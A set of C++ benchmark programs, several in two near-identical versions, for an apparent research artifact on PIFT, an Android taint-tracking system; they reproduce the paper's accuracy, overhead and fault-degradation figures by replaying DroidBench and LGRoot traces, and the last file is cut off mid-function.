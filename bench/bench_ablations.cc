/**
 * @file
 * Design-choice ablations over the full DroidBench suite, at the
 * paper's operating point NI = 13, NT = 3:
 *
 *  - taint-state backends: ideal range store, the Figure 6 range
 *    cache at several capacities and eviction policies, the
 *    fixed-granularity word store at 4- and 64-byte blocks, and the
 *    untagged context-switch write-back store (Section 3.3);
 *  - algorithm variants: untainting off (Section 3.2) and the
 *    no-restart window (Figure 4 semantics ablated).
 *
 * Paper-anchored expectations: the ideal store gives ~98% with 0 FP /
 * 1 FN; exact-but-bounded backends match it; dropping caches can only
 * add false negatives; word granularity can only add detections
 * (overtaint); untainting off never loses detections.
 */

#include <functional>
#include <memory>

#include "bench/common.hh"
#include "core/taint_storage.hh"
#include "core/untagged_storage.hh"
#include "exec/thread_pool.hh"

using namespace pift;

namespace
{

struct Variant
{
    const char *name;
    std::function<std::unique_ptr<core::TaintStore>()> make_store;
    core::PiftParams params;
};

core::PiftParams
paperPoint()
{
    core::PiftParams p;
    p.ni = 13;
    p.nt = 3;
    return p;
}

/**
 * Replay every (variant, app) pair as an independent task on the exec
 * pool — each task builds its own store and tracker, so nothing
 * mutable is shared — then reduce per-variant confusion matrices in
 * fixed order. Byte-identical at every job count.
 */
std::vector<analysis::Accuracy>
evaluateVariants(const std::vector<Variant> &variants)
{
    const auto &set = benchx::suiteTraces();
    const size_t apps = set.size();
    std::unique_ptr<uint8_t[]> detected(
        new uint8_t[variants.size() * apps]());
    exec::parallelFor(variants.size() * apps, [&](size_t task) {
        const Variant &v = variants[task / apps];
        const auto &item = set[task % apps];
        auto store = v.make_store();
        core::PiftTracker tracker(v.params, *store);
        sim::replay(item.trace, tracker);
        detected[task] = tracker.anyLeak() ? 1 : 0;
    });

    std::vector<analysis::Accuracy> accs(variants.size());
    for (size_t vi = 0; vi < variants.size(); ++vi) {
        for (size_t ai = 0; ai < apps; ++ai) {
            bool hit = detected[vi * apps + ai] != 0;
            if (set[ai].leaks && hit)
                ++accs[vi].tp;
            else if (set[ai].leaks)
                ++accs[vi].fn;
            else if (hit)
                ++accs[vi].fp;
            else
                ++accs[vi].tn;
        }
    }
    return accs;
}

std::unique_ptr<core::TaintStore>
makeCache(size_t entries, core::EvictPolicy policy)
{
    core::TaintStorageParams p;
    p.entries = entries;
    p.policy = policy;
    return std::make_unique<core::TaintStorage>(p);
}

} // namespace

int
main(int argc, char **argv)
{
    argc = exec::stripJobsFlag(argc, argv);
    if (argc < 0) {
        std::fprintf(stderr, "usage: %s [--jobs N]\n", argv[0]);
        return 2;
    }

    benchx::Phase phase("Ablations at (NI=13, NT=3) over DroidBench",
                   "Sections 3.2/3.3 design choices");

    std::vector<Variant> variants;

    variants.push_back({"ideal range store",
        [] { return std::make_unique<core::IdealRangeStore>(); },
        paperPoint()});

    variants.push_back({"range cache 2730 (32KiB, LRU-spill)",
        [] { return makeCache(2730, core::EvictPolicy::LruSpill); },
        paperPoint()});

    variants.push_back({"range cache 64 (LRU-spill)",
        [] { return makeCache(64, core::EvictPolicy::LruSpill); },
        paperPoint()});

    variants.push_back({"range cache 64 (LRU-drop)",
        [] { return makeCache(64, core::EvictPolicy::LruDrop); },
        paperPoint()});

    variants.push_back({"range cache 8 (LRU-drop)",
        [] { return makeCache(8, core::EvictPolicy::LruDrop); },
        paperPoint()});

    variants.push_back({"range cache 8 (drop-new)",
        [] { return makeCache(8, core::EvictPolicy::DropNew); },
        paperPoint()});

    variants.push_back({"word store, 4-byte blocks",
        [] { return std::make_unique<core::WordTaintStorage>(2); },
        paperPoint()});

    variants.push_back({"word store, 64-byte blocks",
        [] { return std::make_unique<core::WordTaintStorage>(6); },
        paperPoint()});

    variants.push_back({"untagged store (ctx-switch writeback)",
        [] { return std::make_unique<core::UntaggedTaintStorage>(4096); },
        paperPoint()});

    {
        core::PiftParams p = paperPoint();
        p.untaint = false;
        variants.push_back({"ideal store, untainting OFF",
            [] { return std::make_unique<core::IdealRangeStore>(); },
            p});
    }
    {
        core::PiftParams p = paperPoint();
        p.restart = false;
        variants.push_back({"ideal store, window restart OFF",
            [] { return std::make_unique<core::IdealRangeStore>(); },
            p});
    }

    auto accs = evaluateVariants(variants);
    std::printf("%-40s %9s %4s %4s %4s %4s\n", "variant", "accuracy",
                "TP", "FP", "TN", "FN");
    for (size_t vi = 0; vi < variants.size(); ++vi) {
        const auto &acc = accs[vi];
        std::printf("%-40s %8.1f%% %4u %4u %4u %4u\n",
                    variants[vi].name, 100.0 * acc.accuracy(), acc.tp,
                    acc.fp, acc.tn, acc.fn);
    }

    std::printf("\nreading guide: exact bounded backends must match "
                "the ideal row; dropping caches may add FN only; word "
                "granularity may add TP/FP through overtaint; "
                "untainting off must not lose detections.\n");
    return 0;
}
