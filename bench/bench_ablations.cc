/**
 * @file
 * Design-choice ablations over the full DroidBench suite, at the
 * paper's operating point NI = 13, NT = 3:
 *
 *  - taint-state backends: ideal range store, the Figure 6 range
 *    cache at several capacities and eviction policies, the
 *    fixed-granularity word store at 4- and 64-byte blocks, and the
 *    untagged context-switch write-back store (Section 3.3);
 *  - algorithm variants: untainting off (Section 3.2) and the
 *    no-restart window (Figure 4 semantics ablated).
 *
 * Paper-anchored expectations: the ideal store gives ~98% with 0 FP /
 * 1 FN; exact-but-bounded backends match it; dropping caches can only
 * add false negatives; word granularity can only add detections
 * (overtaint); untainting off never loses detections.
 */

#include <functional>
#include <memory>

#include "bench/common.hh"
#include "core/taint_storage.hh"
#include "core/untagged_storage.hh"

using namespace pift;

namespace
{

struct Variant
{
    const char *name;
    std::function<std::unique_ptr<core::TaintStore>()> make_store;
    core::PiftParams params;
};

core::PiftParams
paperPoint()
{
    core::PiftParams p;
    p.ni = 13;
    p.nt = 3;
    return p;
}

analysis::Accuracy
evaluateVariant(const Variant &v)
{
    analysis::Accuracy acc;
    for (const auto &item : benchx::suiteTraces()) {
        auto store = v.make_store();
        core::PiftTracker tracker(v.params, *store);
        sim::replay(item.trace, tracker);
        bool detected = tracker.anyLeak();
        if (item.leaks && detected)
            ++acc.tp;
        else if (item.leaks)
            ++acc.fn;
        else if (detected)
            ++acc.fp;
        else
            ++acc.tn;
    }
    return acc;
}

std::unique_ptr<core::TaintStore>
makeCache(size_t entries, core::EvictPolicy policy)
{
    core::TaintStorageParams p;
    p.entries = entries;
    p.policy = policy;
    return std::make_unique<core::TaintStorage>(p);
}

} // namespace

int
main()
{
    benchx::Phase phase("Ablations at (NI=13, NT=3) over DroidBench",
                   "Sections 3.2/3.3 design choices");

    std::vector<Variant> variants;

    variants.push_back({"ideal range store",
        [] { return std::make_unique<core::IdealRangeStore>(); },
        paperPoint()});

    variants.push_back({"range cache 2730 (32KiB, LRU-spill)",
        [] { return makeCache(2730, core::EvictPolicy::LruSpill); },
        paperPoint()});

    variants.push_back({"range cache 64 (LRU-spill)",
        [] { return makeCache(64, core::EvictPolicy::LruSpill); },
        paperPoint()});

    variants.push_back({"range cache 64 (LRU-drop)",
        [] { return makeCache(64, core::EvictPolicy::LruDrop); },
        paperPoint()});

    variants.push_back({"range cache 8 (LRU-drop)",
        [] { return makeCache(8, core::EvictPolicy::LruDrop); },
        paperPoint()});

    variants.push_back({"range cache 8 (drop-new)",
        [] { return makeCache(8, core::EvictPolicy::DropNew); },
        paperPoint()});

    variants.push_back({"word store, 4-byte blocks",
        [] { return std::make_unique<core::WordTaintStorage>(2); },
        paperPoint()});

    variants.push_back({"word store, 64-byte blocks",
        [] { return std::make_unique<core::WordTaintStorage>(6); },
        paperPoint()});

    variants.push_back({"untagged store (ctx-switch writeback)",
        [] { return std::make_unique<core::UntaggedTaintStorage>(4096); },
        paperPoint()});

    {
        core::PiftParams p = paperPoint();
        p.untaint = false;
        variants.push_back({"ideal store, untainting OFF",
            [] { return std::make_unique<core::IdealRangeStore>(); },
            p});
    }
    {
        core::PiftParams p = paperPoint();
        p.restart = false;
        variants.push_back({"ideal store, window restart OFF",
            [] { return std::make_unique<core::IdealRangeStore>(); },
            p});
    }

    std::printf("%-40s %9s %4s %4s %4s %4s\n", "variant", "accuracy",
                "TP", "FP", "TN", "FN");
    for (const auto &v : variants) {
        auto acc = evaluateVariant(v);
        std::printf("%-40s %8.1f%% %4u %4u %4u %4u\n", v.name,
                    100.0 * acc.accuracy(), acc.tp, acc.fp, acc.tn,
                    acc.fn);
    }

    std::printf("\nreading guide: exact bounded backends must match "
                "the ideal row; dropping caches may add FN only; word "
                "granularity may add TP/FP through overtaint; "
                "untainting off must not lose detections.\n");
    return 0;
}
