/**
 * @file
 * Degradation sweep: graceful degradation of the PIFT stack under
 * injected loss-class faults (event drops, failed inserts, forced
 * evictions) across eviction policies and storage sizes.
 *
 * Verifies the Section 3.3 claim end to end — lossy storage and a
 * lossy front-end "cost only false negatives, never false positives"
 * — and the degraded-mode contract layered on top of it: every
 * detection the ideal stack makes but a faulty run loses is flagged
 * (MaybeTainted verdict, saturation, or an announced drop), never a
 * silent miss. Equal seeds produce byte-identical tables.
 *
 * The sweep fans every (policy x entries x loss-rate, app) replay over
 * the exec pool; `--jobs N` / PIFT_JOBS set the width, and the table
 * is byte-identical at every job count because each replay derives its
 * fault seed from its grid position alone.
 *
 * Run: ./build/bench/bench_fault_degradation [seed] [--jobs N]
 */

#include <cstdlib>
#include <string>

#include "analysis/degradation.hh"
#include "bench/common.hh"
#include "exec/thread_pool.hh"

using namespace pift;

namespace
{

/** Single-trace deep dive: LGRoot under rising event-drop rates. */
void
lgrootDetail(uint64_t seed)
{
    std::printf("LGRoot malware under event-stream drops "
                "(2730-entry lru-spill storage):\n");
    std::printf("  %9s | %8s %9s %9s | %7s %7s\n", "drops/1M",
                "detected", "possible", "degraded", "dropped",
                "losses");
    const auto &trace = benchx::lgrootTrace();
    for (uint32_t rate : {0u, 1'000u, 10'000u, 50'000u, 200'000u}) {
        auto cfg = faults::FaultConfig::eventLoss(seed, rate);
        auto run = analysis::replayDegraded(
            trace, core::PiftParams{}, core::TaintStorageParams{}, cfg);
        std::printf("  %9u | %8s %9s %9s | %7llu %7llu\n", rate,
                    run.detected ? "yes" : "NO",
                    run.possible ? "yes" : "NO",
                    run.degraded ? "yes" : "no",
                    static_cast<unsigned long long>(run.faults.dropped),
                    static_cast<unsigned long long>(
                        run.stream_loss_events));
    }
    std::printf("\n");
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    argc = exec::stripJobsFlag(argc, argv);
    if (argc < 0) {
        std::fprintf(stderr, "usage: %s [seed] [--jobs N]\n", argv[0]);
        return 2;
    }
    uint64_t seed = argc > 1
        ? std::strtoull(argv[1], nullptr, 0) : 1;

    benchx::Phase phase("fault injection — graceful degradation sweep",
                   "Section 3.3 (FN-only degradation), Figure 6");
    std::printf("seed: %llu\n\n",
                static_cast<unsigned long long>(seed));

    lgrootDetail(seed);

    const auto &set = benchx::suiteTraces();
    std::printf("DroidBench sweep: %zu labelled apps x policies x "
                "storage sizes x loss rates\n", set.size());
    std::printf("(loss rate applies to drops, failed inserts and "
                "forced evictions alike)\n\n");

    analysis::DegradationSweepConfig cfg;
    cfg.seed = seed;
    auto points = analysis::degradationSweep(set, cfg);
    std::string table = analysis::formatDegradationTable(points);
    std::printf("%s", table.c_str());

    unsigned violations = 0;
    for (const auto &pt : points)
        if (!pt.invariantHolds())
            ++violations;
    std::printf("\ninvariant (fp == 0 and no silent false negative "
                "at every point): %s\n",
                violations == 0 ? "HOLDS"
                                : "VIOLATED — see table above");

    // Determinism: the whole sweep again from the same seed must
    // reproduce the table byte for byte.
    auto again = analysis::degradationSweep(set, cfg);
    bool identical = analysis::formatDegradationTable(again) == table;
    std::printf("determinism (same seed, repeated sweep): %s\n",
                identical ? "byte-identical" : "MISMATCH");

    return violations == 0 && identical ? 0 : 1;
}
