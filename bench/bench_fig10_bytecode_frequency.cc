/**
 * @file
 * Figure 10: the top-30 bytecode census, applications vs system
 * libraries, with the per-bytecode load-store distance column for
 * data-moving opcodes (highlighted rows in the paper).
 *
 * Application code = every method the DroidBench suite and the
 * malware analogs declare; system libraries = the Java runtime
 * methods (String/StringBuilder/Math/...) plus framework bytecode.
 */

#include "analysis/census.hh"
#include "bench/common.hh"

using namespace pift;

namespace
{

void
printCensus(const char *title, const analysis::CensusMap &counts)
{
    std::printf("\n== %s ==\n", title);
    std::printf("%-22s %8s %7s  %s\n", "bytecode", "count", "%",
                "L-S distance");
    for (const auto &oc : analysis::rankCensus(counts, 30)) {
        int d = dalvik::expectedDistance(oc.bc);
        char dist[16] = "";
        if (d >= 0)
            std::snprintf(dist, sizeof(dist), "%d", d);
        else if (d == -2)
            std::snprintf(dist, sizeof(dist), "unknown");
        std::printf("%-22s %8llu %6.2f%%  %s\n", dalvik::bcName(oc.bc),
                    static_cast<unsigned long long>(oc.count),
                    oc.percent, dist);
    }
}

} // namespace

int
main()
{
    benchx::Phase phase("Figure 10 — bytecode frequency census",
                   "Section 4.1, Figure 10");

    analysis::CensusMap apps;
    analysis::CensusMap syslib;

    // Apps: one fresh context per registered app (each context also
    // carries the library; split by origin tag).
    for (const auto &entry : droidbench::droidBenchApps()) {
        droidbench::AppContext ctx;
        entry.declare(ctx);
        analysis::accumulateCensus(ctx.dex,
                                   dalvik::MethodOrigin::App, apps);
    }
    for (const auto &entry : droidbench::malwareApps()) {
        droidbench::AppContext ctx;
        entry.declare(ctx);
        analysis::accumulateCensus(ctx.dex,
                                   dalvik::MethodOrigin::App, apps);
    }
    {
        droidbench::AppContext ctx;
        analysis::accumulateCensus(
            ctx.dex, dalvik::MethodOrigin::SystemLib, syslib);
    }

    printCensus("(a) Applications", apps);
    printCensus("(b) System libraries", syslib);

    std::printf("\npaper: invoke/move-result/iget-object/const "
                "families dominate both columns; most frequent "
                "data-moving bytecodes have short distances\n");
    return 0;
}
