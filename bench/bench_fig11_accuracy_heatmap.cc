/**
 * @file
 * Figure 11: DroidBench accuracy over the full parameter grid
 * NI = [1,20] x NT = [1,10] (200 combinations), plus the paper's
 * headline points: ~98% (0% FP, one FN) at NI=13/NT=3, 100% at a
 * wide window, and the GPS (float) leak needing NI >= 10.
 */

#include "bench/common.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 11 — DroidBench accuracy heat map",
                   "Section 5.1, Figure 11");

    const auto &set = benchx::suiteTraces();
    std::printf("suite: %zu apps (41 leaky + 16 benign)\n\n",
                set.size());

    stats::HeatMap map = analysis::accuracySweep(set, 20, 10);
    stats::renderHeatMap(std::cout, "accuracy (%) over NT x NI", map,
                         "%8.1f");

    auto point = [&](unsigned ni, unsigned nt) {
        core::PiftParams p;
        p.ni = ni;
        p.nt = nt;
        return analysis::evaluateAccuracy(set, p);
    };

    auto a13 = point(13, 3);
    std::printf("\nheadline points (paper -> measured):\n");
    std::printf("  (NI=13,NT=3): paper 97.9%% (0 FP, 1 FN) -> "
                "measured %.1f%% (%u FP, %u FN)\n",
                100.0 * a13.accuracy(), a13.fp, a13.fn);

    unsigned first_perfect = 21;
    for (unsigned ni = 1; ni <= 20 && first_perfect == 21; ++ni) {
        auto a = point(ni, 3);
        if (a.fn == 0 && a.fp == 0)
            first_perfect = ni;
    }
    std::printf("  100%% first reached (NT=3): paper NI=18 -> "
                "measured NI=%u\n", first_perfect);

    // GPS threshold: find the GPS app and report its minimal NI.
    for (const auto &item : set) {
        if (item.name != "GPS_Latitude_Sms")
            continue;
        unsigned min_ni = analysis::minimalNi(item.trace, 3);
        std::printf("  GPS (float) leak minimal NI: paper 10 -> "
                    "measured %u\n", min_ni);
    }

    // False positives across the entire grid (paper: none, ever).
    unsigned total_fp = 0;
    for (unsigned nt = 1; nt <= 10; ++nt)
        for (unsigned ni = 1; ni <= 20; ++ni)
            total_fp += point(ni, nt).fp;
    std::printf("  false positives over all 200 combinations: paper 0 "
                "-> measured %u\n", total_fp);

    std::printf("\nCSV:\n");
    stats::renderHeatMapCsv(std::cout, map);
    return 0;
}
