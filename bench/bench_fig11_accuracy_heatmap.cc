/**
 * @file
 * Figure 11: DroidBench accuracy over the full parameter grid
 * NI = [1,20] x NT = [1,10] (200 combinations), plus the paper's
 * headline points: ~98% (0% FP, one FN) at NI=13/NT=3, 100% at a
 * wide window, and the GPS (float) leak needing NI >= 10.
 *
 * The 200 x 57 replays fan out over the exec pool (per-cell, per-app
 * tasks); `--jobs N` / PIFT_JOBS control the width and every job
 * count prints byte-identical output.
 *
 * Run: ./build/bench/bench_fig11_accuracy_heatmap [--jobs N]
 */

#include "bench/common.hh"
#include "exec/thread_pool.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main(int argc, char **argv)
{
    argc = exec::stripJobsFlag(argc, argv);
    if (argc < 0) {
        std::fprintf(stderr, "usage: %s [--jobs N]\n", argv[0]);
        return 2;
    }

    benchx::Phase phase("Figure 11 — DroidBench accuracy heat map",
                   "Section 5.1, Figure 11");

    const auto &set = benchx::suiteTraces();
    std::printf("suite: %zu apps (41 leaky + 16 benign)\n\n",
                set.size());

    constexpr int ni_hi = 20;
    constexpr int nt_hi = 10;
    auto grid = analysis::accuracyGrid(set, ni_hi, nt_hi);
    auto cell = [&](unsigned ni, unsigned nt) -> analysis::Accuracy & {
        return grid[static_cast<size_t>(nt - 1) * ni_hi + ni - 1];
    };

    stats::HeatMap map("NT", 1, nt_hi, "NI", 1, ni_hi);
    for (int nt = 1; nt <= nt_hi; ++nt)
        for (int ni = 1; ni <= ni_hi; ++ni)
            map.set(nt, ni, 100.0 * cell(ni, nt).accuracy());
    stats::renderHeatMap(std::cout, "accuracy (%) over NT x NI", map,
                         "%8.1f");

    auto a13 = cell(13, 3);
    std::printf("\nheadline points (paper -> measured):\n");
    std::printf("  (NI=13,NT=3): paper 97.9%% (0 FP, 1 FN) -> "
                "measured %.1f%% (%u FP, %u FN)\n",
                100.0 * a13.accuracy(), a13.fp, a13.fn);

    unsigned first_perfect = ni_hi + 1;
    for (unsigned ni = 1; ni <= ni_hi && first_perfect == ni_hi + 1;
         ++ni) {
        auto a = cell(ni, 3);
        if (a.fn == 0 && a.fp == 0)
            first_perfect = ni;
    }
    std::printf("  100%% first reached (NT=3): paper NI=18 -> "
                "measured NI=%u\n", first_perfect);

    // GPS threshold: find the GPS app and report its minimal NI.
    for (const auto &item : set) {
        if (item.name != "GPS_Latitude_Sms")
            continue;
        unsigned min_ni = analysis::minimalNi(item.trace, 3, 30,
                                              exec::defaultJobs());
        std::printf("  GPS (float) leak minimal NI: paper 10 -> "
                    "measured %u\n", min_ni);
    }

    // False positives across the entire grid (paper: none, ever).
    unsigned total_fp = 0;
    for (unsigned nt = 1; nt <= nt_hi; ++nt)
        for (unsigned ni = 1; ni <= ni_hi; ++ni)
            total_fp += cell(ni, nt).fp;
    std::printf("  false positives over all 200 combinations: paper 0 "
                "-> measured %u\n", total_fp);

    std::printf("\nCSV:\n");
    stats::renderHeatMapCsv(std::cout, map);
    return 0;
}
