/**
 * @file
 * Figure 12: probability distributions of the number of stores inside
 * a window of NI instructions after each load, for NI = 5, 10, 15,
 * 20, 40, 60, 80, 100 (LGRoot trace). The paper's point: diminishing
 * returns — widening the window beyond ~10-15 captures few extra
 * stores.
 */

#include "analysis/profiler.hh"
#include "bench/common.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 12 — stores inside the tainting window",
                   "Section 5.1, Figure 12 (LGRoot trace)");

    analysis::DistanceProfiler profiler;
    profiler.consume(benchx::lgrootTrace());

    const unsigned windows[] = {5, 10, 15, 20, 40, 60, 80, 100};
    for (unsigned ni : windows) {
        auto hist = profiler.storesInWindow(ni);
        char title[64];
        std::snprintf(title, sizeof(title),
                      "# stores in window of NI = %u", ni);
        stats::renderDistribution(std::cout, title, hist, 12);
        std::printf("mean stores captured: %.2f\n\n", hist.mean());
    }
    std::printf("paper: increasing NI above 10-15 does not capture "
                "more stores (diminishing returns)\n");
    return 0;
}
