/**
 * @file
 * Figure 13: the average distance from a load to the 1st, 2nd and 3rd
 * stores within windows of NI = 5, 10, 15, 20 (LGRoot trace). The
 * paper's point: all three ranks sit close to the load, so tainting
 * up to NT = 3 stores does not explode the taint.
 */

#include "analysis/profiler.hh"
#include "bench/common.hh"

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 13 — distance to the first three stores",
                   "Section 5.1, Figure 13 (LGRoot trace)");

    analysis::DistanceProfiler profiler;
    profiler.consume(benchx::lgrootTrace());

    std::printf("%-8s %12s %12s %12s\n", "NI", "first store",
                "second store", "third store");
    for (unsigned ni : {5u, 10u, 15u, 20u}) {
        std::printf("%-8u %12.2f %12.2f %12.2f\n", ni,
                    profiler.meanDistanceToStore(ni, 1),
                    profiler.meanDistanceToStore(ni, 2),
                    profiler.meanDistanceToStore(ni, 3));
    }
    std::printf("\npaper: stores are in close proximity of loads; "
                "tainting all three after a load is safe\n");
    return 0;
}
