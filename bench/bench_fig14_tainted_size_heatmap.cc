/**
 * @file
 * Figure 14: maximum size (bytes) of tainted addresses over the full
 * NI x NT grid, LGRoot trace. The paper's points: tainted regions
 * grow with the window parameters, and NT (propagations per window)
 * outweighs NI.
 */

#include "bench/common.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::banner("Figure 14 — max tainted bytes over NI x NT",
                   "Section 5.2, Figure 14 (LGRoot trace)");

    const auto &trace = benchx::lgrootTrace();
    stats::HeatMap map("NT", 1, 10, "NI", 1, 20);
    for (int nt = 1; nt <= 10; ++nt) {
        for (int ni = 1; ni <= 20; ++ni) {
            core::PiftParams p;
            p.ni = static_cast<unsigned>(ni);
            p.nt = static_cast<unsigned>(nt);
            auto o = analysis::measureOverhead(trace, p);
            map.set(nt, ni, static_cast<double>(o.max_tainted_bytes));
        }
    }
    stats::renderHeatMap(std::cout, "max tainted bytes", map, "%8.0f");
    std::printf("\nmax cell: %.0f bytes (paper: up to ~5.5e4); "
                "NT outweighs NI as in the paper\n", map.max());
    std::printf("\nCSV:\n");
    stats::renderHeatMapCsv(std::cout, map);
    return 0;
}
