/**
 * @file
 * Figure 14: maximum size (bytes) of tainted addresses over the full
 * NI x NT grid, LGRoot trace. The paper's points: tainted regions
 * grow with the window parameters, and NT (propagations per window)
 * outweighs NI.
 */

#include "bench/common.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 14 — max tainted bytes over NI x NT",
                        "Section 5.2, Figure 14 (LGRoot trace)");

    stats::HeatMap map = benchx::overheadGrid(
        benchx::lgrootTrace(), 10, 20,
        [](const analysis::OverheadResult &o) {
            return o.max_tainted_bytes;
        });
    stats::renderHeatMap(std::cout, "max tainted bytes", map, "%8.0f");
    std::printf("\nmax cell: %.0f bytes (paper: up to ~5.5e4); "
                "NT outweighs NI as in the paper\n", map.max());
    std::printf("\nCSV:\n");
    stats::renderHeatMapCsv(std::cout, map);
    return 0;
}
