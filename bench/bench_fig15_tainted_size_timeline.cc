/**
 * @file
 * Figure 15: tainted-bytes-over-time curves for NI in {5,10,15,20}
 * and NT in {1,2,3} on the LGRoot trace. The paper's narrative: the
 * IMEI is fetched at the beginning, composed into a message and sent
 * at the very end; small windows give flat curves through the long
 * inactive middle, while (15,3) and (20,3) blow up through compound
 * overtainting.
 */

#include "bench/common.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 15 — tainted size over time",
                        "Section 5.2, Figure 15 (LGRoot trace)");

    const auto &trace = benchx::lgrootTrace();
    auto sweep = benchx::overheadSeriesSweep(
        trace, {1u, 2u, 3u}, {5u, 10u, 15u, 20u},
        [](analysis::OverheadResult &&o) {
            return std::move(o.tainted_bytes);
        },
        [](unsigned, unsigned, const analysis::OverheadResult &) {});

    benchx::renderSeriesSweep(std::cout,
                              "tainted bytes vs instructions (NI;NT)",
                              sweep, trace.records.size());

    std::printf("\npaper: flat middle for ({5,10,15,20},{1,2}) and "
                "(5,3); exponential blow-up for (15,3), (20,3)\n");
    return 0;
}
