/**
 * @file
 * Figure 15: tainted-bytes-over-time curves for NI in {5,10,15,20}
 * and NT in {1,2,3} on the LGRoot trace. The paper's narrative: the
 * IMEI is fetched at the beginning, composed into a message and sent
 * at the very end; small windows give flat curves through the long
 * inactive middle, while (15,3) and (20,3) blow up through compound
 * overtainting.
 */

#include "bench/common.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::banner("Figure 15 — tainted size over time",
                   "Section 5.2, Figure 15 (LGRoot trace)");

    const auto &trace = benchx::lgrootTrace();
    std::vector<std::string> names;
    std::vector<stats::TimeSeries> series;
    SeqNum horizon = trace.records.size();

    for (unsigned nt : {1u, 2u, 3u}) {
        for (unsigned ni : {5u, 10u, 15u, 20u}) {
            core::PiftParams p;
            p.ni = ni;
            p.nt = nt;
            auto o = analysis::measureOverhead(trace, p);
            char label[32];
            std::snprintf(label, sizeof(label), "(%u;%u)", ni, nt);
            names.emplace_back(label);
            series.push_back(std::move(o.tainted_bytes));
        }
    }

    std::vector<const stats::TimeSeries *> ptrs;
    for (const auto &s : series)
        ptrs.push_back(&s);
    stats::renderTimeSeries(std::cout,
                            "tainted bytes vs instructions (NI;NT)",
                            names, ptrs, horizon, 25);

    std::printf("\npaper: flat middle for ({5,10,15,20},{1,2}) and "
                "(5,3); exponential blow-up for (15,3), (20,3)\n");
    return 0;
}
