/**
 * @file
 * Figure 16: cumulative number of taint + untaint operations over
 * time for the same parameter set as Figure 15. The paper's point:
 * the (10,3) case keeps performing taint/untaint churn (small
 * regions repeatedly mistainted then untainted) even while the
 * tainted size stays flat.
 */

#include "bench/common.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::Phase phase(
        "Figure 16 — cumulative taint+untaint operations",
        "Section 5.2, Figure 16 (LGRoot trace)");

    const auto &trace = benchx::lgrootTrace();
    auto sweep = benchx::overheadSeriesSweep(
        trace, {1u, 2u, 3u}, {5u, 10u, 15u, 20u},
        [](analysis::OverheadResult &&o) {
            return std::move(o.cumulative_ops);
        },
        [](unsigned ni, unsigned nt,
           const analysis::OverheadResult &o) {
            std::printf("(NI=%2u,NT=%u): %llu taint + %llu untaint "
                        "operations\n", ni, nt,
                        static_cast<unsigned long long>(o.taint_ops),
                        static_cast<unsigned long long>(
                            o.untaint_ops));
        });

    std::printf("\n");
    benchx::renderSeriesSweep(
        std::cout, "cumulative operations vs instructions (NI;NT)",
        sweep, trace.records.size());

    std::printf("\npaper: operations keep accruing during the flat "
                "phase (mistaint/untaint churn), most at large "
                "windows\n");
    return 0;
}
