/**
 * @file
 * Figure 16: cumulative number of taint + untaint operations over
 * time for the same parameter set as Figure 15. The paper's point:
 * the (10,3) case keeps performing taint/untaint churn (small
 * regions repeatedly mistainted then untainted) even while the
 * tainted size stays flat.
 */

#include "bench/common.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::banner("Figure 16 — cumulative taint+untaint operations",
                   "Section 5.2, Figure 16 (LGRoot trace)");

    const auto &trace = benchx::lgrootTrace();
    std::vector<std::string> names;
    std::vector<stats::TimeSeries> series;
    SeqNum horizon = trace.records.size();

    for (unsigned nt : {1u, 2u, 3u}) {
        for (unsigned ni : {5u, 10u, 15u, 20u}) {
            core::PiftParams p;
            p.ni = ni;
            p.nt = nt;
            auto o = analysis::measureOverhead(trace, p);
            char label[32];
            std::snprintf(label, sizeof(label), "(%u;%u)", ni, nt);
            names.emplace_back(label);
            series.push_back(std::move(o.cumulative_ops));
            std::printf("(NI=%2u,NT=%u): %llu taint + %llu untaint "
                        "operations\n", ni, nt,
                        static_cast<unsigned long long>(o.taint_ops),
                        static_cast<unsigned long long>(
                            o.untaint_ops));
        }
    }

    std::printf("\n");
    std::vector<const stats::TimeSeries *> ptrs;
    for (const auto &s : series)
        ptrs.push_back(&s);
    stats::renderTimeSeries(
        std::cout, "cumulative operations vs instructions (NI;NT)",
        names, ptrs, horizon, 25);

    std::printf("\npaper: operations keep accruing during the flat "
                "phase (mistaint/untaint churn), most at large "
                "windows\n");
    return 0;
}
