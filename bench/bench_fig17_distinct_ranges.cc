/**
 * @file
 * Figure 17: maximum number of distinct tainted ranges over the
 * NI x NT grid, LGRoot trace. The paper's point: fewer than ~100
 * distinct ranges for NI <= 10 — small enough that the on-chip range
 * cache needs no secondary storage.
 */

#include "bench/common.hh"
#include "stats/render.hh"

#include <algorithm>
#include <iostream>

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 17 — max distinct tainted ranges",
                        "Section 5.2, Figure 17 (LGRoot trace)");

    stats::HeatMap map = benchx::overheadGrid(
        benchx::lgrootTrace(), 10, 20,
        [](const analysis::OverheadResult &o) {
            return o.max_ranges;
        });
    double max_small_ni = 0;
    for (int nt = 1; nt <= 10; ++nt)
        for (int ni = 1; ni <= 10; ++ni)
            max_small_ni = std::max(max_small_ni, map.at(nt, ni));

    stats::renderHeatMap(std::cout, "max distinct ranges", map,
                         "%8.0f");
    std::printf("\nmax ranges for NI <= 10: %.0f (paper: < 100, so a "
                "small on-chip memory suffices)\n", max_small_ni);
    std::printf("max cell overall: %.0f (paper: ~3000)\n", map.max());
    std::printf("\nCSV:\n");
    stats::renderHeatMapCsv(std::cout, map);
    return 0;
}
