/**
 * @file
 * Figure 18: effect of untainting on the maximum tainted size, for
 * NI in {5,10,15,20} at NT = 3 (LGRoot trace). The paper reports a
 * 26x reduction at (5,3) and that without untainting the window size
 * barely matters.
 */

#include "bench/common.hh"

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 18 — untainting vs max tainted bytes",
                        "Section 5.2, Figure 18 (LGRoot trace)");

    auto rows = benchx::untaintComparison(
        benchx::lgrootTrace(), {5u, 10u, 15u, 20u}, 3,
        [](const analysis::OverheadResult &o) {
